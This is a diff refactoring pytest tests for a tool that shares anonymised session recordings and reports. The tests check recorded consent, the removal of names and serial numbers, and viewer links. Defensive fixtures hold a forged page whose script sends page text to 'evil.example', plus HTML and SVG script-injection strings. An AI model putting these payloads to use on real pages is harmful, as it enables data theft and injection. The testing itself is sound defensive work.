@@ -41,6 +41,7 @@ FACTS = {
     "pseudonym": "S07",
 }
 SECRET = ("5ec12e7", "anna_mueller", "matr4711", "berta schulz")
+"""Serial number and names in small letters; the number of a student too."""
 
 
 @pytest.fixture(scope="module")
@@ -75,21 +76,21 @@ def run_folder_with_consent(run, words):
     return replace(folder, document=structs.replace(folder.document, session=session))
 
 
-def test_folder_is_shared_only_with_recorded_consent_to_share(revealing_run_folder):
-    """The recording must state exactly ``share``; of two runs one without it is enough to refuse both."""
+def test_recorded_consent_to_share_is_enough(revealing_run_folder):
+    """The recording states the consent ``share``: no error."""
     require_consent([run_folder_with_consent(revealing_run_folder, "share")])
-    for text in ("none", "lab", "not stated", "", "Share", "share with the lab", "no share"):
-        with pytest.raises(OutputError, match=r"no consent to share is recorded: .*add --anyway"):
-            require_consent(
-                [
-                    run_folder_with_consent(revealing_run_folder, "share"),
-                    run_folder_with_consent(revealing_run_folder, text),
-                ]
-            )
+
+
+@pytest.mark.parametrize("consent", ["none", "lab", "not stated", "", "Share", "share with the lab", "no share"])
+def test_folder_is_shared_only_with_recorded_consent_to_share(revealing_run_folder, consent):
+    """Of two runs one states the consent ``share``, the other something else: both are refused."""
+    runs = [run_folder_with_consent(revealing_run_folder, words) for words in ("share", consent)]
+    with pytest.raises(OutputError, match=r"no consent to share is recorded: .*add --anyway"):
+        require_consent(runs)
 
 
 def moment_messages(folder, name="run"):
-    """Moment -> the message that moves the viewer there, from a shared folder."""
+    """Address of a moment ("miss-1") -> the message that moves the viewer there, from a shared folder."""
     text = (folder / f"{name}.js").read_text().splitlines()[0]
     return {key: base64.b64decode(item) for key, item in json.loads(text[len("window.moments=") : -1]).items()}
 
@@ -119,37 +120,57 @@ def control(name):
 
 
 def test_every_moment_has_a_message_with_its_time(revealing_run_folder, shared_folder):
-    """Each fault of both detectors, and the opening moment, by nanoseconds of the session; read by Google's library."""
-    read, sent = control("Request"), moment_messages(shared_folder)
-    bookmarks = read_bookmarks(revealing_run_folder / "run.rrd")
-    times = {name: read.FromString(item).cursor for name, item in sent.items() if name != "layout"}
-    assert {item.timeline.name for item in times.values()} == {"session"} and not any(
-        item.play for item in times.values()
-    )
-    for item in bookmarks:
-        if item.label == "slow":
-            assert times[f"{item.kind}-{item.number}"].moment.time == item.session_ns
-    others = [item for item in bookmarks if item.label == "late"]
-    assert others and all(times[f"{item.kind}-{item.number}-late"].moment.time == item.session_ns for item in others)
-    assert times[""].moment.time == next(item.session_ns for item in bookmarks if item.leads)
-    assert read.FromString(sent["layout"]).command.id == "recording.reset_blueprint_to_default"
-    for ns in (0, 1, 127, 128, 31_877_273_761, 2**62, -5):
-        assert read.FromString(module.cursor_at(ns)).cursor.moment.time == ns
+    """Messages to Rerun's viewer, read by Google's library: one for each fault and for the moment to open at ("").
+
+    The picture has the same moments as bookmarks, in nanoseconds of the session. The second detector, late, is named in
+    an address. The cursor goes to the time line "session" and does not play.
+    """
+    messages = moment_messages(shared_folder)
+    request = control("Request")
+    cursors = {address: request.FromString(data).cursor for address, data in messages.items() if address != "layout"}
+    times = {address: cursor.moment.time for address, cursor in cursors.items()}
+    expected = {}
+    for bookmark in read_bookmarks(revealing_run_folder / "run.rrd"):
+        ending = {"slow": "", "late": "-late"}.get(bookmark.label)
+        if ending is not None:
+            expected[f"{bookmark.kind}-{bookmark.number}{ending}"] = bookmark.session_ns
+        if bookmark.leads:
+            expected[""] = bookmark.session_ns
+    assert {"", "miss-1", "miss-1-late"} <= expected.keys()
+    assert times == expected
+    assert {(cursor.timeline.name, cursor.play) for cursor in cursors.values()} == {("session", False)}
+
+
+def test_layout_message_resets_the_layout_of_the_viewer(shared_folder):
+    """The message "layout" to Rerun's viewer holds the name of one of its commands."""
+    message = control("Request").FromString(moment_messages(shared_folder)["layout"])
+    assert message.command.id == "recording.reset_blueprint_to_default"
+
+
+@pytest.mark.parametrize("nanoseconds", [0, 1, 127, 128, 31_877_273_761, 2**62, -5])
+def test_cursor_message_holds_any_time(nanoseconds):
+    """Times of one to nine bytes of 7 bits, and a negative one, are written here and read by Google's library."""
+    message = control("Request").FromString(module.cursor_at(nanoseconds))
+    assert message.cursor.moment.time == nanoseconds
 
 
 def test_every_miss_of_the_run_links_to_its_moment(revealing_run_folder, shared_folder):
-    """The first detector, slow, needs no name in an address: ``miss-1``, but ``miss-1-late``."""
-    page, sent = (shared_folder / "index.html").read_text(), moment_messages(shared_folder)
+    """The page has a link, and the viewer a message, for each row of the table of misses.
+
+    The first detector, slow, needs no name in an address: ``miss-1``; the second does: ``miss-1-late``.
+    """
+    page = (shared_folder / "index.html").read_text()
     links = set(re.findall('href="#([^"]*)"', page.replace("&amp;", "&")))
+    ending = {"slow": "", "late": "-late"}
     rows = read_run_folder(revealing_run_folder).rows("misses")
-    requested = {
-        f"miss-{item['number']}" + ("" if item["detector"] == "slow" else f"-{item['detector']}") for item in rows
-    }
-    assert requested and requested <= links and requested <= sent.keys()
+    addresses = {f"miss-{row['number']}{ending[row['detector']]}" for row in rows}
+    assert {"miss-1", "miss-1-late"} <= addresses
+    assert addresses <= links
+    assert addresses <= moment_messages(shared_folder).keys()
 
 
 def texts_of(folder):
-    """All that can be read in a folder: scripts are unpacked, tables and recordings taken apart."""
+    """File and text of all that can be read in a folder: scripts are unpacked, tables and recordings taken apart."""
     for file in folder.iterdir():
         yield file.name, file.name + file.read_bytes().decode("latin-1")
         for packed in re.findall(rb'packed="([^"]*)"', file.read_bytes() if file.suffix == ".js" else b""):
@@ -161,40 +182,74 @@ def texts_of(folder):
             yield file.name, repr([(item.schema, item.to_pylist() if item.num_rows < 50 else "") for item in batches])
 
 
+def secrets_in(folder, secrets):
+    """(secret, file) for each text of a folder that has a secret; programs of Rerun are left out."""
+    texts = [(file, text.lower()) for file, text in texts_of(folder) if file not in ("viewer.js", "re_viewer.js")]
+    return [(secret, file) for file, text in texts for secret in secrets if secret in text]
+
+
 @pytest.mark.slow
-def test_run_and_shared_folder_hold_no_serial_path_or_name(revealing_run_folder, shared_folder):
-    """The recording holds a serial number, paths and names of people; the pseudonym S07 stays."""
-    recorded = {file.name for file in shared_folder.iterdir()}
-    assert {"index.html", "run.js", "run.rrd", "viewer.js", "re_viewer.js", "picture.js", "share.json"} <= recorded
+def test_run_folder_holds_no_serial_number_or_name(revealing_run_folder):
+    """The recording of the run holds a serial number, names of people and of their files."""
+    assert secrets_in(revealing_run_folder, SECRET) == []
+
+
+@pytest.mark.slow
+def test_shared_folder_holds_no_serial_path_or_name(revealing_run_folder, shared_folder):
+    """The recording of the run holds a serial number, names of people and paths; a folder is called anna.lind.
+
+    All files are looked through: page, picture, messages, viewer.
+    """
+    assert {"index.html", "run.js", "run.rrd", "viewer.js", "re_viewer.js", "picture.js", "share.json"} <= {
+        file.name for file in shared_folder.iterdir()
+    }
     # A full stop is no letter of base64: a packed script of megabytes holds any four letters by chance.
-    secrets = ("anna.lind", str(revealing_run_folder), str(revealing_run_folder.parent), str(shared_folder.parent))
-    for folder, sentence in ((revealing_run_folder, SECRET), (shared_folder, (*SECRET, *secrets))):
-        own = [item for item in texts_of(folder) if item[0] not in ("viewer.js", "re_viewer.js")]
-        assert [(word, name) for name, text in own for word in sentence if word in text.lower()] == []
+    paths = ("anna.lind", str(revealing_run_folder), str(revealing_run_folder.parent), str(shared_folder.parent))
+    assert secrets_in(shared_folder, (*SECRET, *paths)) == []
+
+
+def test_shared_page_names_pseudonym_and_session(revealing_run_folder, shared_folder):
+    """The student is called S07; the digest of the session is that of its tables."""
     page = (shared_folder / "index.html").read_text(encoding="utf-8")
-    assert "S07" in page and replay.read(revealing_run_folder)["metrics"]["session"][0].as_py() in page
+    digest, *_ = replay.read(revealing_run_folder)["metrics"]["session"].to_pylist()
+    assert "S07" in page
+    assert digest in page
 
 
 def test_a_rerun_without_a_viewer_leaves_the_report_alone(revealing_run_folder, tmp_path, monkeypatch):
-    """The folder holds the page and the list of what was shared, and no picture."""
+    """Rerun is made to ship no viewer for a browser: the folder has the page, the list of what is shared, no picture.
 
-    def none():
+    The sentence says why; the page has its own script only.
+    """
+
+    def fail():
         raise ViewerError(module.NO_WEB_VIEWER)
 
-    monkeypatch.setattr(module, "web_viewer", none)
-    why = write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent")
-    assert why == "this rerun-sdk ships no viewer for a browser"
-    assert sorted(item.name for item in (tmp_path / "sent").iterdir()) == ["index.html", "share.json"]
+    monkeypatch.setattr(module, "web_viewer", fail)
+    sentence = write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent")
+    assert sentence == "this rerun-sdk ships no viewer for a browser"
+    assert sorted(file.name for file in (tmp_path / "sent").iterdir()) == ["index.html", "share.json"]
     page = (tmp_path / "sent" / "index.html").read_text()
-    assert page.count("<script") == 1 and "slow" in page
+    assert page.count("<script") == 1
+    assert "slow" in page
 
 
-REPLACED = """<!doctype html><html><head><!-- {policy} --><title>Nothing missed</title>
+FORGED_PAGE = """<!doctype html><html><head><!-- {policy} --><title>Nothing missed</title>
 <script>fetch("https://evil.example/" + document.body.innerText)</script></head><body></footer></body></html>"""
+"""A page that sends its text to a stranger, with the policy of a true page in a comment."""
+
+
+@pytest.fixture
+def empty_viewer(monkeypatch):
+    """The viewer of Rerun for a browser is two empty files: it takes no time."""
+    monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""})
 
 
 def test_a_damaged_picture_is_refused_before_the_viewer_starts(revealing_run_folder, tmp_path, monkeypatch):
-    """The second of two runs has a picture cut to 1000 bytes, and a summary with the hash of these."""
+    """The second of two runs has a picture cut to 1000 bytes, and a summary with the hash of these.
+
+    No folder is written, and Rerun's viewer, which takes seconds, is not fetched.
+    """
     monkeypatch.setattr(module, "web_viewer", lambda: pytest.fail("the viewer was started"))
     damaged = shutil.copytree(revealing_run_folder, tmp_path / "damaged")
     (damaged / "run.rrd").write_bytes((revealing_run_folder / "run.rrd").read_bytes()[:1000])
@@ -206,57 +261,97 @@ def test_a_damaged_picture_is_refused_before_the_viewer_starts(revealing_run_fol
     assert not (tmp_path / "sent").exists()
 
 
-def test_a_replaced_report_is_never_passed_on(revealing_run_folder, tmp_path, monkeypatch):
-    """The page that is sent is made from the tables, not copied; without run.rrd the folder has no picture."""
-    monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""})
+def test_a_replaced_report_is_never_passed_on(revealing_run_folder, tmp_path, empty_viewer):
+    """In a copy of a run folder a forged page stands in place of its report.
+
+    The page that is sent is made from the tables: the same from both folders, with nothing of the forged one.
+    """
     forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
-    (forged / "report.html").write_text(REPLACED.format(policy=CONTENT_POLICY))
-    assert write_shared_folder([read_run_folder(forged)], tmp_path / "sent") == ""
-    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "good")
-    pages = [(tmp_path / name / "index.html").read_text() for name in ("sent", "good")]
-    assert pages[0] == pages[1] and "evil" not in pages[0] and "Nothing missed" not in pages[0]
-    (forged / "report.html").unlink()
-    (forged / "run.rrd").unlink()
-    assert write_shared_folder([read_run_folder(forged)], tmp_path / "alone") == "no run holds a picture (run.rrd)"
+    (forged / "report.html").write_text(FORGED_PAGE.format(policy=CONTENT_POLICY))
+    write_shared_folder([read_run_folder(forged)], tmp_path / "sent of forged")
+    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent of true")
+    page_of_forged, page_of_true = (
+        (tmp_path / name / "index.html").read_text() for name in ("sent of forged", "sent of true")
+    )
+    assert page_of_forged == page_of_true
+    assert "evil" not in page_of_forged
+    assert "Nothing missed" not in page_of_forged
+
+
+def test_run_without_report_and_picture_is_shared_without_picture(revealing_run_folder, tmp_path):
+    """Both files are deleted from a copy of a run folder; the sentence says that the picture is missing."""
+    copy = shutil.copytree(revealing_run_folder, tmp_path / "copy")
+    (copy / "report.html").unlink()
+    (copy / "run.rrd").unlink()
+    sentence = write_shared_folder([read_run_folder(copy)], tmp_path / "sent")
+    assert sentence == "no run holds a picture (run.rrd)"
+    assert (tmp_path / "sent" / "index.html").is_file()
 
 
 def test_summary_strings_are_text_in_the_page(revealing_run_folder, tmp_path):
-    """Detector, pseudonym and scene end an element and begin a script: the page has its own script only."""
+    """Texts of a summary, changed by a stranger, end an element and begin a script: detector, pseudonym, scene.
+
+    The page has a single script, its own, and its elements end once.
+    """
     forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
     (forged / "run.rrd").unlink()
-    reported = json.loads((forged / "summary.json").read_text())
-    reported["detectors"]["slow"]["spec"] = "</td><script>x</script>"
-    reported["session"]["facts"]["pseudonym"] = reported["session"]["scene"] = "</title><script>x</script></head>"
-    (forged / "summary.json").write_text(json.dumps(reported))
+    summary = json.loads((forged / "summary.json").read_text())
+    summary["detectors"]["slow"]["spec"] = "</td><script>x</script>"
+    summary["session"]["facts"]["pseudonym"] = "</title><script>x</script></head>"
+    summary["session"]["scene"] = "</title><script>x</script></head>"
+    (forged / "summary.json").write_text(json.dumps(summary))
     write_shared_folder([read_run_folder(forged)], tmp_path / "sent")
     page = (tmp_path / "sent" / "index.html").read_text()
-    assert page.count("<script") == 1 and page.count("</title>") == page.count("</head>") == 1
+    assert page.count("<script") == 1
+    assert page.count("</title>") == 1
+    assert page.count("</head>") == 1
 
 
-def test_runs_have_a_common_viewer_and_a_list(revealing_run_folder, tmp_path, monkeypatch):
-    """The same run twice; a later folder of one run replaces all that the two had."""
-    monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""})
+@pytest.fixture
+def folder_of_two_runs(revealing_run_folder, tmp_path, empty_viewer):
+    """A folder made to be sent, of the same run twice."""
     write_shared_folder([read_run_folder(revealing_run_folder)] * 2, tmp_path / "sent")
-    names = {item.name for item in (tmp_path / "sent").iterdir()}
-    own = {f"run{k}.{kind}" for k in (1, 2) for kind in ("html", "js", "rrd")}
-    assert names == own | {"index.html", "viewer.js", "re_viewer.js", "picture.js", "share.json"}
-    text = (tmp_path / "sent" / "index.html").read_text()
-    title = re.findall("<title>(.*?)</title>", (tmp_path / "sent" / "run1.html").read_text())[0]
-    assert [text.count(f'href="run{k}.html"') for k in (1, 2)] == [1, 1] and text.count(title) == 2
-    assert 'data-recording="run2"' in (tmp_path / "sent" / "run2.html").read_text()
-    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent", force=True)
-    assert not own & {item.name for item in (tmp_path / "sent").iterdir()}, "an earlier folder is replaced whole"
+    return tmp_path / "sent"
 
 
-def in_time(page):
-    """Report within 2 s, picture within 20 s; on a machine that does other work it is the processor's time."""
-    computed = page.processor_seconds()
-    seconds = page.wait_for("document.getElementById('picture').dataset.state", 180) / 1000
-    assert min(seconds, page.processor_seconds()) < 20
+FILES_OF_TWO_RUNS = {"run1.html", "run1.js", "run1.rrd", "run2.html", "run2.js", "run2.rrd"}
+
+
+def test_shared_runs_have_files_of_their_own_and_a_common_viewer(folder_of_two_runs):
+    """Page, messages and picture of each of two runs; one list of them (index.html), and one viewer."""
+    common_files = {"index.html", "viewer.js", "re_viewer.js", "picture.js", "share.json"}
+    assert {file.name for file in folder_of_two_runs.iterdir()} == FILES_OF_TWO_RUNS | common_files
+    assert 'data-recording="run2"' in (folder_of_two_runs / "run2.html").read_text()
+
+
+def test_list_of_shared_runs_links_each_page_once(folder_of_two_runs):
+    """The same run twice: two links, each with the title of its page."""
+    text = (folder_of_two_runs / "index.html").read_text()
+    (title,) = re.findall("<title>(.*?)</title>", (folder_of_two_runs / "run1.html").read_text())
+    assert text.count('href="run1.html"') == 1
+    assert text.count('href="run2.html"') == 1
+    assert text.count(title) == 2
+
+
+def test_shared_folder_replaces_an_earlier_one_whole(folder_of_two_runs, revealing_run_folder):
+    """A folder of one run is written, on request (``force``), over one of two runs, whose files all go."""
+    write_shared_folder([read_run_folder(revealing_run_folder)], folder_of_two_runs, force=True)
+    files = {file.name for file in folder_of_two_runs.iterdir()}
+    assert "run.js" in files
+    assert not FILES_OF_TWO_RUNS & files
+
+
+def wait_for_picture_in_time(page):
+    """Asserts that the report is painted within 2 s, and the picture within 20 s.
+
+    On a machine that does other work, seconds of the processor count, if they are fewer.
+    """
+    processor_seconds_of_report = page.processor_seconds()
+    seconds_of_picture = page.wait_for("document.getElementById('picture').dataset.state", 180) / 1000
+    assert min(seconds_of_picture, page.processor_seconds()) < 20
     assert page.ask("document.getElementById('picture').dataset.state") == "shown"
-    painted = page.ask("performance.getEntriesByName('first-contentful-paint')[0].startTime") / 1000
-    print(f"painted after {painted:.1f} s, shown after {seconds:.1f} s of {page.processor_seconds():.1f}")
-    assert min(painted, computed) < 2
+    seconds_of_report = page.ask("performance.getEntriesByName('first-contentful-paint')[0].startTime") / 1000
+    assert min(seconds_of_report, processor_seconds_of_report) < 2
 
 
 def cursor_at(page, address):
@@ -267,45 +362,83 @@ def cursor_at(page, address):
     return control("State").FromString(state).recording.at.moment.time
 
 
+@pytest.fixture(scope="module")
+def opened_folder(shared_folder, tmp_path_factory):
+    """The page of a shared folder in a browser, from a file, without a server, once its picture is there."""
+    with opened((shared_folder / "index.html").as_uri(), tmp_path_factory.mktemp("browser")) as page:
+        wait_for_picture_in_time(page)
+        yield page
+
+
 @pytest.mark.slow
-def test_shared_folder_opens_alone_and_every_link_moves_the_picture(revealing_run_folder, shared_folder, tmp_path):
-    """From a file, without a server: a link sets the viewer's time, and nothing is requested from elsewhere."""
-    url = (shared_folder / "index.html").as_uri()
-    with opened(url, tmp_path) as page:
-        in_time(page)
-        for address, message in moment_messages(shared_folder).items():
-            if address not in ("", "layout"):
-                assert cursor_at(page, address) == control("Request").FromString(message).cursor.moment.time
-        page.ask("document.getElementById('picture').scrollIntoView()")
-        time.sleep(1)
-        colours = np.unique(pixels(page.png())[:, 640:].reshape(-1, 3), axis=0)
-        assert len(colours) > 500, "the viewer draws"
-        assert not page.errors()
-        assert serious_faults(page, tmp_path) == []
-        assert all(item.startswith((shared_folder.as_uri(), "data:")) for item in page.requests()) and page.requests()
+def test_every_link_of_a_shared_page_moves_the_picture(opened_folder, shared_folder):
+    """The address of each moment is opened: Rerun's viewer in the page then stands at the time of its message."""
+    messages = moment_messages(shared_folder)
+    addresses = messages.keys() - {"", "layout"}
+    assert addresses
+    for address in addresses:
+        time_ns = control("Request").FromString(messages[address]).cursor.moment.time
+        assert cursor_at(opened_folder, address) == time_ns
 
 
-def test_shared_page_takes_only_pixels_of_the_still(shared_folder, tmp_path, monkeypatch):
-    """A still too large, of no base64, of an SVG or cut short is left out of the page."""
-    page = (shared_folder / "index.html").read_text()
-    (still,) = re.findall(r'class="open-picture"><img src="data:image/webp;base64,([A-Za-z0-9+/=]+)"', page)
+@pytest.mark.slow
+def test_shared_page_draws_the_picture_beside_the_report(opened_folder):
+    """The right half of the page, scrolled to the picture, has over 500 colours, as only a drawing has."""
+    opened_folder.ask("document.getElementById('picture').scrollIntoView()")
+    time.sleep(1)  # until the viewer has drawn
+    right_half = pixels(opened_folder.png())[:, 640:].reshape(-1, 3)
+    assert len(np.unique(right_half, axis=0)) > 500
+
+
+@pytest.mark.slow
+def test_shared_page_is_accessible_and_requests_nothing_from_elsewhere(opened_folder, shared_folder, tmp_path):
+    """Every request is for a file of the folder, or data; no error, and no serious fault by the checker axe."""
+    requests = opened_folder.requests()
+    assert requests
+    assert [url for url in requests if not url.startswith((shared_folder.as_uri(), "data:"))] == []
+    assert opened_folder.errors() == []
+    assert serious_faults(opened_folder, tmp_path) == []
+
+
+STILL_IN_PAGE = r'class="open-picture"><img src="data:image/webp;base64,([A-Za-z0-9+/=]+)"'
+
+
+def test_shared_page_has_the_still_as_a_webp_picture(shared_folder):
+    """420 by 238 pixels in the report of a user; in tests a fifth of them each way (``coarse_stills``)."""
+    (still,) = re.findall(STILL_IN_PAGE, (shared_folder / "index.html").read_text())
     with Image.open(io.BytesIO(base64.b64decode(still))) as image:
-        assert image.format == "WEBP" and image.size == (84, 48)  # a fifth of 420 by 238, of ``coarse_stills``
+        assert image.format == "WEBP"
+        assert image.size == (84, 48)
+
+
+def test_still_larger_than_the_limit_is_left_out(shared_folder, monkeypatch):
+    """The still is 84 pixels wide; the limit is lowered to 50."""
     monkeypatch.setattr(leading_still, "LARGEST_SIDE_PIXELS", 50)
     assert leading_still.read_still(shared_folder / "run.rrd") == ""
-    for text in ("no base64", base64.b64encode(b"<svg onload=alert(1)>").decode(), still[:40]):
+
+
+def test_still_cut_short_or_of_an_svg_is_left_out(shared_folder, monkeypatch):
+    """An SVG may hold a script; the first 40 letters of a WebP picture are none. Both stand in the recording."""
+    (still,) = re.findall(STILL_IN_PAGE, (shared_folder / "index.html").read_text())
+    for text in (base64.b64encode(b"<svg onload=alert(1)>").decode(), still[:40]):
         monkeypatch.setattr(leading_still, "read_texts", lambda *_, text=text: (True, [text]))
         assert leading_still.read_still(shared_folder / "run.rrd") == ""
 
 
 @pytest.mark.slow
 def test_phone_shows_the_still_and_loads_the_picture_on_request(shared_folder, tmp_path):
-    """400 x 800 pixels: the viewer is requested only after a click on the link below the still."""
+    """A phone of 400 x 800 pixels: a still, a link below it; Rerun's viewer is requested only after a click on that.
+
+    No error, and no serious fault by the checker axe.
+    """
     with opened((shared_folder / "index.html").as_uri(), tmp_path, (400, 800)) as page:
-        boxes = "[...document.querySelectorAll('.open-picture img, .open-picture a')].map((n) => n.offsetTop)"
-        still, link = page.ask(boxes)
-        assert still < link and not page.ask("document.getElementById('picture').checkVisibility()")
-        assert not [item for item in page.requests() if "viewer" in item]
+        still_top, link_top = page.ask(
+            "[...document.querySelectorAll('.open-picture img, .open-picture a')].map((node) => node.offsetTop)"
+        )
+        assert still_top < link_top
+        assert not page.ask("document.getElementById('picture').checkVisibility()")
+        assert [url for url in page.requests() if "viewer" in url] == []
         page.ask("document.querySelector('.open-picture a').click(); 0")
         page.wait_for("document.getElementById('picture').dataset.state === 'shown'", 180)
-        assert not page.errors() and serious_faults(page, tmp_path) == []
+        assert page.errors() == []
+        assert serious_faults(page, tmp_path) == []
